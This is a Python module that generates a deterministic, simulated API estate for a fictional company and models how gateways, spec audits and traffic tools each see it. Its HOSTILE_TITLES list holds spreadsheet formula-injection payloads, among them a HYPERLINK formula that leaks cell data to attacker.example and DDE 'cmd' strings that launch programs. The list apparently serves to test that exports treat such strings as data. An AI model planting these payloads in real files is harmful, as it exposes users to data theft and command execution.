"""A deterministic, generated API estate of one company, and how each tool sees it.

The estate is a pure function of (seed, size); what exists on a given date is a pure function of
(estate, date), so consecutive dates differ the way real estates drift: APIs appear and retire,
operations come and go, auth settings and risk scores change. The projections into the four tools
overlap as they do in real companies: most endpoints are in a gateway, a spec and traffic; some only
in traffic (shadow); some in a gateway with no audit; some public endpoints carry sensitive data.
"""

from __future__ import annotations

import dataclasses
import hashlib
import random
import re
import uuid
from dataclasses import dataclass, field
from datetime import date
from functools import cached_property

RESOURCES = [
    "users",
    "orders",
    "payments",
    "accounts",
    "invoices",
    "devices",
    "sessions",
    "products",
    "carts",
    "claims",
    "policies",
    "shipments",
    "reports",
    "documents",
    "customers",
    "cards",
    "transfers",
    "messages",
    "tickets",
    "subscriptions",
]
DOMAINS = [
    "ledger",
    "billing",
    "identity",
    "catalog",
    "checkout",
    "shipping",
    "support",
    "risk",
    "loyalty",
    "partners",
    "mobile",
    "insights",
    "search",
    "notify",
    "wallet",
    "fleet",
]
TEAMS = ["Payments", "Identity", "Commerce", "Logistics", "Customer Care", "Data", "Mobile", "Partners"]
SENSITIVE = ["PII", "PCI", "PHI", "credentials", "email", "phone", "ssn", "bank_account"]
APIGEE_HOSTS = {"prod": "api.acme.example", "test": "api-test.acme.example"}
KONG_HOST = "edge.acme.example"
AUTH_KINDS = ["apikey", "oauth2", "jwt", "basic"]


def kong_catch_all_host(name: str) -> str:
    return f"{name}.{KONG_HOST}"


AWS_REST_REGION = "eu-west-1"
AWS_MOST = 100  # APIs on API Gateway at most: populating moto costs a dozen calls per API

# Vendor strings that must stay data: spreadsheet formula triggers, non-ASCII, over-long text.
HOSTILE_TITLES = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Zahlungsübersicht — 支付接口 — Платежи ✓",
]
LONG_TEXT = "This API description is far too long for one spreadsheet cell. " * 700  # > 32,767 chars

CHURN_PERIOD = 50  # days; a churning API lives `life` days of every period
# Revision counters and documents are counted from this day, so that a revision, once served, never
# changes: what an incremental collection relies on, as it does with the real vendors.
ORIGIN_DAY = date(2020, 1, 1).toordinal()
AUTH_FLIP_WINDOW = 20  # days between an API's authentication flips (when it flips at all)


def execute_api_host(legacy_host: str) -> str:
    """The execute-api host of the REST API that serves a legacy host on API Gateway: the sandbox gives
    that API a stable id, so that traffic can call it there too."""
    return (
        f"{hashlib.sha256(legacy_host.encode()).hexdigest()[:10]}.execute-api.{AWS_REST_REGION}.amazonaws.com"
    )


def aws_greedy_resources(api: Api, ops: tuple[Operation, ...]) -> list[str]:
    """The greedy {proxy+} resources (ANY, AWS_IAM) a REST API gives a legacy API, below its base path:
    a catch-all in front of the backend at the base path itself, or a nested one under a parameter
    (``/orders/{orderId}/files/{proxy+}``), which serves only the files of an order."""
    if api.index % 4 == 1:
        return ["/{proxy+}"]
    one = next((op.template for op in ops if op.template.count("/") == 2 and op.params), None)
    return [f"{one}/files/{{proxy+}}"] if api.index % 4 == 3 and one else []


def aws_root_proxy(apis: list[tuple[Api, tuple[Operation, ...]]]) -> bool:
    """Whether a monolith's REST API has a root /{proxy+} too: it serves what none of the legacy APIs'
    resources (its non-proxy siblings) takes."""
    return any(api.index % 8 == 7 for api, _ in apis)


def _traffic_only(method: str, template: str, params: tuple[str, ...] = ()) -> Operation:
    """A request traffic sees that is no operation of the API's: what a gateway's catch-all takes."""
    return Operation(
        method=method,
        template=template,
        params=params,
        in_spec=False,
        in_gateway=False,
        in_traffic=True,
        public=False,
        sensitive=(),
        churn_phase=None,
        concrete_in_traffic=True,
    )


def _grade(drawn: int, index: int) -> int:
    """An audit grade: most teams fix their spec until it passes (70), one in three leaves it low."""
    return drawn if drawn >= 70 or index % 3 == 0 else 70 + (drawn - 15) * 30 // 55


def _uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


@dataclass(frozen=True)
class Operation:
    method: str
    template: str  # relative to the API's base path, parameters spelled {name}
    params: tuple[str, ...]
    in_spec: bool
    in_gateway: bool
    in_traffic: bool
    public: bool  # no authentication even when the API has some
    sensitive: tuple[str, ...]
    churn_phase: int | None  # None: always there
    concrete_in_traffic: bool  # Cequence shows real ids instead of a template

    def alive(self, day: int) -> bool:
        return self.churn_phase is None or (day - self.churn_phase) % 30 < 24


@dataclass(frozen=True)
class Api:
    index: int
    id: str
    name: str
    title: str
    description: str
    team: str
    version: int
    host: str
    base_path: str
    gateway: str | None  # "apigee" | "kong" | None
    deployed: bool
    environments: tuple[str, ...]
    in_spec: bool
    audited: bool
    grade: int
    audit_age_days: int
    in_traffic: bool
    auth_kind: str | None
    auth_flip_phase: int | None
    operations: tuple[Operation, ...]
    churn: tuple[int, int] | None  # (phase, life) within CHURN_PERIOD
    kong_ids: tuple[str, str]  # service id, plugin id
    collection_id: str
    nested_in: int | None = None  # the index of the Apigee API whose base path this one's lies below

    def alive(self, day: int) -> bool:
        if self.churn is None:
            return True
        phase, life = self.churn
        return (day - phase) % CHURN_PERIOD < life

    def auth_on(self, day: int) -> str | None:
        """The API's auth kind on a date: a few APIs lose or gain authentication over time."""
        if self.auth_flip_phase is None:
            return self.auth_kind
        return self._auth_in_window((day - self.auth_flip_phase) // AUTH_FLIP_WINDOW)

    def _auth_in_window(self, window: int) -> str | None:
        if window % 2 == 0:
            return None if self.auth_kind else "apikey"
        return self.auth_kind

    # A gateway proxy gets a new revision whenever its authentication flips.
    def revisions(self, day: int) -> list[int]:
        """The proxy's revision numbers on a date (the ten newest; older ones were pruned)."""
        base = 1 + self.index % 4
        if self.auth_flip_phase is None:
            return list(range(1, base + 1))
        latest = base + self._window(day) - self._window(ORIGIN_DAY)
        return list(range(max(1, latest - 9), latest + 1))

    def _window(self, day: int) -> int:
        assert self.auth_flip_phase is not None
        return (day - self.auth_flip_phase) // AUTH_FLIP_WINDOW

    def revision_auth(self, revision: int) -> str | None:
        """The auth kind a revision was made with (a revision never changes)."""
        if self.auth_flip_phase is None:
            return self.auth_kind
        return self._auth_in_window(revision - 1 - self.index % 4 + self._window(ORIGIN_DAY))

    def revision_created(self, revision: int) -> int:
        """The day a revision was made."""
        if self.auth_flip_phase is None:
            return ORIGIN_DAY - 400 + 30 * revision + self.index % 300
        window = revision - 1 - self.index % 4 + self._window(ORIGIN_DAY)
        return self.auth_flip_phase + AUTH_FLIP_WINDOW * window

    # A spec's revision counter grows whenever an operation comes or goes or its authentication flips;
    # 42Crunch audits every imported revision, and re-audits on a schedule.
    def _spec_state(self, day: int) -> tuple[object, ...]:
        return (tuple(op.alive(day) for op in self.operations if op.in_spec), self.auth_on(day))

    def spec_changed(self, day: int) -> int | None:
        """The last day on or before ``day`` when the spec changed; None for a spec that never changes
        (one that does changes at least every 24 days, so 30 days back is far enough)."""
        if self.auth_flip_phase is None and all(
            op.churn_phase is None for op in self.operations if op.in_spec
        ):
            return None
        state = self._spec_state(day)
        for back in range(1, 31):
            if self._spec_state(day - back) != state:
                return day - back + 1
        return None

    def spec_revision(self, day: int) -> int:
        changed = self.spec_changed(day)
        return 1 + self.index % 4 + (changed - ORIGIN_DAY if changed is not None else 0)

    def audited_on(self, day: int) -> int:
        """The day of the latest audit: on the last spec change, or the scheduled re-audit (every sixth
        API every ten days, with its grade; the others every 61 days, some of them long overdue)."""
        if self.index % 6 == 0:
            scheduled = day - day % 10
        else:
            overdue = self.audit_age_days if self.audit_age_days > 60 else 0
            scheduled = day - (day - self.index) % 61 - overdue
        changed = self.spec_changed(day)
        return max(scheduled, changed) if changed is not None else scheduled

    def grade_on(self, day: int) -> int:
        """The audit grade on a date: every sixth API is re-audited every ten days, a little differently."""
        if self.index % 6:
            return self.grade
        return max(0, min(100, self.grade + 4 * ((day // 10) % 3) - 4))

    @property
    def servers(self) -> tuple[str, ...]:
        """The URLs its spec lists: an Apigee API on the host of each environment it is deployed to
        (test included), a legacy API on API Gateway as a REST API on its execute-api endpoint too."""
        if self.gateway == "apigee":
            return tuple(f"https://{APIGEE_HOSTS[env]}{self.base_path}" for env in self.environments)
        servers: tuple[str, ...] = (f"https://{self.host}{self.base_path}",)
        if self.gateway is None and self.index % 3 != 0 and self.index % 2 == 1:
            below = self.base_path.strip("/").split("/", 1)[1]  # under the host's mapped first segment
            servers += (f"https://{execute_api_host(self.host)}/prod/{below}",)
        return servers

    def risk_score(self, day: int, op: Operation) -> float:
        """A whole number from 0 to 100, the scale records and reports use."""
        # Most scores move weekly; every tenth API's daily, so consecutive dates show changed risk.
        period = day if self.index % 10 == 0 else day // 7
        rng = random.Random(f"{self.id}:{op.method}:{op.template}:{period}")
        base = 20.0 + 30.0 * bool(op.sensitive) + 30.0 * (self.auth_on(day) is None or op.public)
        return float(round(min(100.0, base + rng.random() * 20)))


@dataclass
class Estate:
    size: int = 200
    seed: int = 7
    apis: list[Api] = field(init=False)

    def __post_init__(self) -> None:
        if not 1 <= self.size <= 100_000:
            raise ValueError("size is from 1 to 100,000 APIs")
        self.apis = _nest_base_paths([self._make_api(i) for i in range(self.size)])

    def _make_api(self, i: int) -> Api:
        rng = random.Random(f"{self.seed}:{i}")
        domain = DOMAINS[i % len(DOMAINS)]
        resource = rng.choice(RESOURCES)
        name = f"{domain}-{resource}-{i}"
        version = rng.randint(1, 3)
        draw = rng.random()
        gateway = "apigee" if draw < 0.55 else "kong" if draw < 0.80 else None
        in_spec = rng.random() < (0.85 if gateway else 0.5)
        in_traffic = True if not gateway and not in_spec else rng.random() < 0.95
        auth_kind = rng.choice(AUTH_KINDS) if rng.random() < 0.85 else None
        if gateway == "apigee":
            host = APIGEE_HOSTS["prod"]
        elif gateway == "kong":
            # Every tenth Kong API has a hostname of its own, which a catch-all route (hosts only) serves.
            host = kong_catch_all_host(name) if i % 10 == 3 else KONG_HOST
        else:
            host = f"{domain}-legacy.acme.example"
        api_sensitive = tuple(rng.sample(SENSITIVE, rng.randint(1, 3))) if rng.random() < 0.45 else ()
        operations = []
        templates = [
            ("GET", f"/{resource}", ()),
            ("POST", f"/{resource}", ()),
            ("GET", f"/{resource}/{{{resource[:-1]}Id}}", (f"{resource[:-1]}Id",)),
            ("PUT", f"/{resource}/{{{resource[:-1]}Id}}", (f"{resource[:-1]}Id",)),
            ("DELETE", f"/{resource}/{{{resource[:-1]}Id}}", (f"{resource[:-1]}Id",)),
            ("GET", f"/{resource}/{{{resource[:-1]}Id}}/history", (f"{resource[:-1]}Id",)),
            ("GET", "/health", ()),
            ("PATCH", f"/{resource}/{{{resource[:-1]}Id}}/status", (f"{resource[:-1]}Id",)),
        ]
        count = rng.randint(2, len(templates))
        chosen = templates[:count]
        for method, template, params in chosen:
            documented = gateway is not None or in_spec
            operations.append(
                Operation(
                    method=method,
                    template=template,
                    params=params,
                    in_spec=in_spec,
                    in_gateway=gateway is not None,
                    in_traffic=in_traffic and rng.random() < 0.95,
                    public=template == "/health" or (auth_kind is not None and rng.random() < 0.05),
                    sensitive=api_sensitive if template != "/health" and rng.random() < 0.7 else (),
                    churn_phase=rng.randrange(30) if documented and rng.random() < 0.1 else None,
                    concrete_in_traffic=bool(params) and rng.random() < 0.5,
                )
            )
        if (gateway or in_spec) and in_traffic and rng.random() < 0.12:
            # An undocumented operation: only traffic knows it.
            operations.append(
                Operation(
                    method="GET",
                    template=f"/{resource}/export",
                    params=(),
                    in_spec=False,
                    in_gateway=False,
                    in_traffic=True,
                    public=rng.random() < 0.5,
                    sensitive=api_sensitive,
                    churn_phase=None,
                    concrete_in_traffic=False,
                )
            )
        if not any(op.in_traffic for op in operations) and not gateway and not in_spec:
            operations[0] = Operation(**{**operations[0].__dict__, "in_traffic": True})
        title = HOSTILE_TITLES[i - 1] if 1 <= i <= len(HOSTILE_TITLES) else f"{domain.title()} {resource} API"
        return Api(
            index=i,
            id=_uuid(rng),
            name=name,
            title=title,
            description=LONG_TEXT
            if i == 6
            else f"{TEAMS[i % len(TEAMS)]} team's {resource} service, v{version}.",
            team=TEAMS[i % len(TEAMS)],
            version=version,
            host=host,
            base_path=f"/{domain}/{resource}-{i}/v{version}" if gateway != "kong" else f"/{name}/v{version}",
            gateway=gateway,
            deployed=gateway != "apigee" or rng.random() < 0.93,
            environments=("prod", "test") if rng.random() < 0.4 else ("prod",),
            in_spec=in_spec,
            audited=in_spec and rng.random() < 0.95,
            grade=_grade(rng.randint(15, 100), i),
            audit_age_days=rng.randint(0, 60) if rng.random() < 0.85 else rng.randint(100, 400),
            in_traffic=in_traffic,
            auth_kind=auth_kind,
            auth_flip_phase=rng.randrange(40) if rng.random() < 0.05 else None,
            operations=tuple(operations),
            churn=(rng.randrange(CHURN_PERIOD), rng.randint(30, 45))
            if i >= 8 and rng.random() < 0.3
            else None,
            kong_ids=(_uuid(rng), _uuid(rng)),
            collection_id=str(
                uuid.UUID(
                    int=random.Random(f"{self.seed}:team:{TEAMS[i % len(TEAMS)]}").getrandbits(128), version=4
                )
            ),
        )

    @staticmethod
    def day_number(day: date | None) -> int:
        return (day or date.today()).toordinal()

    def on(self, day: date | None) -> EstateDay:
        return EstateDay(self, self.day_number(day))


def _nest_base_paths(apis: list[Api]) -> list[Api]:
    """Nested Apigee base paths: of the deployed proxies in no API product (every sixth, from the
    sixth: known by their base path alone), every second one's base path lies below the previous one's
    (``/ledger/users-5/v1`` and ``/ledger/users-5/v1/orders-17/v2``), as when a team splits a path off an
    older proxy. Apigee gives a request to the proxy with the longer base path that serves it."""
    outer: Api | None = None
    nested = []
    for api in apis:
        if api.gateway == "apigee" and api.deployed and api.index % 6 == 5:
            if outer is None:
                outer = api
            else:
                below = api.base_path.split("/", 2)[2]  # without its domain segment
                api = dataclasses.replace(api, base_path=f"{outer.base_path}/{below}", nested_in=outer.index)
                outer = None
        nested.append(api)
    return nested


@dataclass
class EstateDay:
    """The estate on one date: the APIs and operations alive then."""

    estate: Estate
    day: int

    @cached_property
    def apis(self) -> list[tuple[Api, tuple[Operation, ...]]]:
        alive = []
        for api in self.estate.apis:
            if api.alive(self.day):
                ops = tuple(op for op in api.operations if op.alive(self.day))
                if ops:
                    alive.append((api, ops))
        return alive

    def in_gateway(self, gateway: str) -> list[tuple[Api, tuple[Operation, ...]]]:
        return [
            (api, tuple(o for o in ops if o.in_gateway))
            for api, ops in self.apis
            if api.gateway == gateway and any(o.in_gateway for o in ops)
        ]

    def in_spec(self) -> list[tuple[Api, tuple[Operation, ...]]]:
        return [
            (api, tuple(o for o in ops if o.in_spec))
            for api, ops in self.apis
            if api.in_spec and any(o.in_spec for o in ops)
        ]

    def in_traffic(self) -> list[tuple[Api, Operation]]:
        return [(api, op) for api, ops in self.apis for op in ops if op.in_traffic]

    def on_api_gateway(self) -> list[tuple[Api, tuple[Operation, ...]]]:
        """The legacy APIs (no Apigee or Kong) that run on AWS API Gateway, with their documented
        operations: two in three of them, odd ones as REST APIs (one per legacy host), even as HTTP APIs."""
        found = []
        for api, ops in self.apis:
            if api.gateway is None and api.index % 3 != 0:
                documented = tuple(op for op in ops if not op.template.endswith("/export"))
                if documented:
                    found.append((api, documented))
        return found[:AWS_MOST]

    def traffic_calls(self) -> list[tuple[Api, Operation, str, str]]:
        """(API, operation, host, base path) of each way traffic reaches an operation: its own host; for
        three in four APIs deployed to Apigee's test environment, the test host too; for some REST APIs on
        API Gateway, their execute-api endpoint (stage prod) too."""
        on_rest = {
            api.index: ops for api, ops in self.on_api_gateway() if api.index % 2 == 1 and api.index % 5 < 3
        }
        calls = []
        for api, op in self.in_traffic():
            calls.append((api, op, api.host, api.base_path))
            if api.gateway == "apigee" and api.deployed and "test" in api.environments and api.index % 4:
                calls.append((api, op, APIGEE_HOSTS["test"], api.base_path))
            if op in on_rest.get(api.index, ()):
                below = api.base_path.strip("/").split("/", 1)[1]  # under the host's mapped first segment
                calls.append((api, op, execute_api_host(api.host), f"/prod/{below}"))
        return calls + self.proxy_calls()

    def on_rest_apis(self) -> dict[str, list[tuple[Api, tuple[Operation, ...]]]]:
        """The legacy APIs on API Gateway's REST APIs, by legacy host: one REST API per host (a monolith's
        APIs mapped at the host's first path segment), the odd ones of ``on_api_gateway``."""
        rest: dict[str, list[tuple[Api, tuple[Operation, ...]]]] = {}
        for api, ops in self.on_api_gateway():
            if api.index % 2 == 1:
                rest.setdefault(api.host, []).append((api, ops))
        return rest

    def proxy_calls(self) -> list[tuple[Api, Operation, str, str]]:
        """Requests that only the REST APIs' greedy proxies take (aws_greedy_resources, aws_root_proxy):
        under a base path's /{proxy+} and a nested .../files/{proxy+}; under the root /{proxy+}, beside
        the APIs' own resources; and one the root proxy must not take, a method a non-proxy sibling
        resource lacks (API Gateway excludes a proxy's siblings, so nothing serves it). Made on the
        custom domain, and on the execute-api endpoint where the API's other traffic goes there too."""
        calls = []

        def call(api: Api, method: str, template: str, base_path: str) -> None:
            op = _traffic_only(method, template, tuple(re.findall(r"\{(\w+)\}", template)))
            calls.append((api, op, api.host, base_path))
            if api.index % 5 < 3:
                below = base_path.strip("/").split("/", 1)[1:]  # under the host's mapped first segment
                calls.append((api, op, execute_api_host(api.host), "/".join(["/prod", *below])))

        for apis in self.on_rest_apis().values():
            for api, ops in apis:
                for greedy in aws_greedy_resources(api, ops):
                    call(api, "GET", greedy.replace("{proxy+}", "backend/status/2024.json"), api.base_path)
            if aws_root_proxy(apis):
                api, ops = next((a, o) for a, o in apis if a.index % 8 == 7)
                call(api, "GET", "/internal/metrics", "/" + api.base_path.strip("/").split("/")[0])
                sibling = ops[0]  # no operation on a path without parameters is DELETE, none with one POST
                call(api, "POST" if sibling.params else "DELETE", sibling.template, api.base_path)
        return calls

    def teams(self) -> list[str]:
        return sorted({api.team for api, _ in self.in_spec()})
